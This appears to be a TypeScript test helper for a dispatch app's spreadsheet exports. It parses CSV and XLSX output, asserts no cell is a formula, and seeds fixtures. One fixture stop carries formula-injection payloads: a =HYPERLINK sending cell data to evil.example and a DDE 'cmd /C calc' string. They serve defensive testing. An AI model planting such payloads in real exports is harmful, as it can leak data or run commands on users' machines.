/**
 * Reading export files back as a spreadsheet user or a script would, and the table a user's
 * sync pull implies, for the export tests (src/exports). The expected table is computed here
 * from the pull alone, independently of the server's export code.
 */
import {
  type Change, type Driver, type ExportDataClass, exportColumnsFor, exportHeaderRows, exportTableStartRow, type PullResponse,
  type PushResponse, type Route, type Stop, type Vehicle,
} from '@depotline/shared';
import ExcelJS from 'exceljs';
import { expect } from 'vitest';
import { localIsoTime, restoreCell } from '../src/exports/cells';
import { recordChange } from '../src/sync/change-log';
import { mutationId, rest, type World } from './world';

/** RFC 4180, as the server writes it: CRLF rows, quoted fields with doubled quotes, a BOM. */
export function parseCsv(buf: Buffer): string[][] {
  const text = buf.toString('utf8');
  expect(text.charCodeAt(0)).toBe(0xfeff);
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 1; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { field += '"'; i++; } else if (c === '"') quoted = false; else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(field); field = ''; } else if (c === '\r' && text[i + 1] === '\n') { row.push(field); rows.push(row); row = []; field = ''; i++; } else field += c;
  }
  expect(field).toBe('');
  expect(row).toEqual([]);
  return rows;
}

export interface ExportFileContents {
  header: Record<string, string>;
  columns: string[];
  /** Data rows keyed by column, values restored (one leading quote dropped). */
  rows: Record<string, string>[];
  /** The raw cells of the data rows, as written. */
  raw: string[][];
}

/** Splits the documented layout: header pairs, an empty row, the column keys, the data. */
export function readLayout(rows: string[][]): ExportFileContents {
  const header = Object.fromEntries(rows.slice(0, exportHeaderRows).map((r) => [r[0]!, restoreCell(r[1] ?? '')]));
  expect(rows[exportHeaderRows]!.every((c) => c === '')).toBe(true);
  const columns = rows[exportTableStartRow - 1]!;
  const raw = rows.slice(exportTableStartRow);
  const data = raw.map((r) => Object.fromEntries(columns.map((k, i) => [k, restoreCell(r[i] ?? '')])));
  return { header, columns, rows: data, raw };
}

export function readCsvExport(buf: Buffer): ExportFileContents {
  return readLayout(parseCsv(buf));
}

/** The first worksheet as text cells; also checks that no cell anywhere is a formula. */
export async function readXlsxExport(buf: Buffer): Promise<ExportFileContents> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buf as unknown as ArrayBuffer);
  const ws = wb.worksheets[0]!;
  const rows: string[][] = [];
  for (let n = 1; n <= ws.rowCount; n++) {
    const row = ws.getRow(n);
    const cells: string[] = [];
    for (let c = 1; c <= Math.max(row.cellCount, 1); c++) {
      const cell = row.getCell(c);
      expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
      // eslint-disable-next-line @typescript-eslint/no-unnecessary-type-assertion -- exceljs types a cell value as a wide union
      cells.push(cell.value === null || cell.value === undefined ? '' : String(cell.value as string | number));
    }
    rows.push(cells);
  }
  return readLayout(rows);
}

/** Every change of a location a user's REST pull gives, from the start. */
export async function pullEverything(w: World, token: string, locationId: string): Promise<Change[]> {
  const out: Change[] = [];
  let after = 0;
  for (;;) {
    const r = await rest(w, 'GET', `/locations/${locationId}/changes?after=${after}&limit=1000`, token);
    expect(r.status).toBe(200);
    const page = r.body as unknown as PullResponse;
    out.push(...page.changes);
    after = page.cursor;
    if (!page.hasMore) return out;
  }
}

/**
 * The export table the pull implies: routes dated in [from, to], by date, name and id, each
 * stop (by sequence) a row, a route without stops one row; a field the pull lacks is empty.
 */
export function tableFromPull(changes: readonly Change[], classes: readonly ExportDataClass[], from: string, to: string, timeZone: string): Record<string, string>[] {
  const of = <E extends Change['entity']>(e: E) => changes.filter((c): c is Extract<Change, { entity: E }> => c.entity === e).map((c) => c.data);
  const routes = (of('route') as Route[]).filter((r) => r.date >= from && r.date <= to)
    .sort((a, b) => a.date.localeCompare(b.date) || (a.name < b.name ? -1 : a.name > b.name ? 1 : 0) || (a.id < b.id ? -1 : 1));
  const stops = of('stop') as Stop[];
  const drivers = new Map((of('driver') as Driver[]).map((d) => [d.id, d]));
  const vehicles = new Map((of('vehicle') as Vehicle[]).map((v) => [v.id, v]));
  const t = (ms: number | null | undefined) => (ms === null || ms === undefined ? '' : localIsoTime(ms, timeZone));
  const keys = exportColumnsFor(classes).map((c) => c.key);
  const out: Record<string, string>[] = [];
  for (const route of routes) {
    const own = stops.filter((s) => s.routeId === route.id).sort((a, b) => a.sequence - b.sequence || (a.id < b.id ? -1 : 1));
    for (const stop of own.length > 0 ? own : [null]) {
      const all: Record<string, string> = {
        route_date: route.date, route_id: route.id, stop_id: stop?.id ?? '', route_name: route.name,
        driver_id: route.driverId ?? '', driver_name: (route.driverId && drivers.get(route.driverId)?.name) || '',
        vehicle_id: route.vehicleId ?? '', vehicle_label: (route.vehicleId && vehicles.get(route.vehicleId)?.label) || '',
        sequence: stop ? String(stop.sequence) : '', status: stop?.status ?? '', window_start: t(stop?.window.start), window_end: t(stop?.window.end),
        eta: t(stop?.eta), stop_updated_at: t(stop?.updatedAt), stop_updated_by: stop?.updatedBy ?? '',
        route_updated_at: t(route.updatedAt), route_updated_by: route.updatedBy ?? '',
        customer_name: stop?.customerName ?? '', address: stop?.address ?? '', phone: stop?.phone ?? '', notes: stop?.notes ?? '',
        withheld: stop?.withheld?.join(',') ?? '',
        order_ref: stop?.orderRef ?? '', parcel_count: stop ? String(stop.parcelCount) : '', barcodes: stop?.barcodes.join(' ') ?? '',
        minimum_age: stop?.minimumAge != null ? String(stop.minimumAge) : '', id_check: stop ? (stop.idCheck ? 'yes' : 'no') : '',
        failure_reason: stop?.failureReason ?? '',
        latitude: stop?.coordinates ? String(stop.coordinates.lat) : '', longitude: stop?.coordinates ? String(stop.coordinates.lng) : '',
        email: stop?.email ?? '', failure_note: stop?.failureNote ?? '',
        payment_ref: stop?.paymentRef ?? '', cod_amount_minor: stop?.codAmount != null ? String(stop.codAmount) : '',
        delivery_fee_minor: stop?.deliveryFee != null ? String(stop.deliveryFee) : '', currency: stop?.currency ?? '',
      };
      out.push(Object.fromEntries(keys.map((k) => [k, all[k] ?? '(missing)'])));
    }
  }
  return out;
}

export const exportFrom = '2026-11-22';
export const exportTo = '2026-11-28';

/**
 * Adds to the world, through the real push as the dispatcher: routes in range without stops, a
 * route after the range with a stop, and a stop whose customer fields start like formulas.
 * Returns the hostile stop's id.
 */
export async function addExportFixtures(w: World): Promise<{ hostileStopId: string }> {
  const at = Date.now();
  const hostileStopId = 'stop-hostile';
  const push = async (mutations: Record<string, unknown>[]) => {
    const r = await rest(w, 'POST', '/sync/push', w.users.dispatcher.token, { mutations: mutations.map((m) => ({ id: mutationId(), locationId: w.A, createdAt: at, ...m })) });
    expect((r.body as unknown as PushResponse).results.map((x) => x.status)).toEqual(mutations.map(() => 'applied'));
  };
  // The world inserts its drivers and vehicle without change-log entries; provisioning
  // (provisioning/fleet.ts) records one for each, which is how pulls carry them.
  await w.ctx.db.transaction().execute(async (trx) => {
    for (const id of [w.driverRecordId, w.otherDriverRecordId]) await recordChange(trx, w.A, 'driver', id, w.ctx.now());
    await recordChange(trx, w.A, 'vehicle', w.vehicleA, w.ctx.now());
  });
  await push([
    { type: 'route.create', routeId: 'route-a3', name: 'Afternoon, "late" run', date: '2026-11-23' },
    { type: 'route.create', routeId: 'route-a4', name: 'Next month', date: '2026-12-30' },
    // Names whose order differs between code-unit and locale collation: the file's order is the same on every database.
    { type: 'route.create', routeId: 'route-a5', name: 'b route', date: '2026-11-24' },
    { type: 'route.create', routeId: 'route-a6', name: 'B Route', date: '2026-11-24' },
    { type: 'route.create', routeId: 'route-a7', name: '_early', date: '2026-11-24' },
    { type: 'stop.create', stopId: 'stop-a4-0', routeId: 'route-a4', sequence: 0, customerName: 'Out Of Range', address: '9 Far Road', phone: null, notes: '', window: { start: 1_800_000_000_000, end: 1_800_000_600_000 } },
    {
      type: 'stop.create', stopId: hostileStopId, routeId: w.routes.A2, sequence: 7, customerName: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      address: '@SUM(1+1)*cmd|\' /C calc\'!A0', phone: '-23 (555) 01', notes: '\tlooks like a tab, "quoted", comma\r\nsecond line', window: { start: 1_800_000_000_000, end: 1_800_003_600_000 },
    },
    { type: 'stop.setStatus', stopId: w.stops.A1[0]!.id, to: 'en_route' },
    { type: 'stop.update', stopId: w.stops.A1[1]!.id, changes: { eta: 1_800_001_234_567 } },
    { type: 'route.assign', routeId: w.routes.A2, driverId: w.otherDriverRecordId, vehicleId: w.vehicleA },
  ]);
  // An order with billing and a formula-like reference, set by the manager (billing needs stop.readBilling).
  const billed = await rest(w, 'POST', '/sync/push', w.users.manager.token, { mutations: [{
    id: mutationId(), locationId: w.A, createdAt: at, type: 'stop.update', stopId: w.stops.A1[1]!.id,
    changes: {
      orderRef: '=ORDER(1)', parcelCount: 2, barcodes: ['JJD01', '+JJD02'], coordinates: { lat: 52.5, lng: -0.125 }, email: 'ex@example.com',
      minimumAge: 18, idCheck: true, paymentRef: 'PAY-EXPORT-1', codAmount: 1250, deliveryFee: 499, currency: 'EUR',
    },
  }] });
  expect((billed.body as unknown as PushResponse).results.map((x) => x.status)).toEqual(['applied']);
  return { hostileStopId };
}
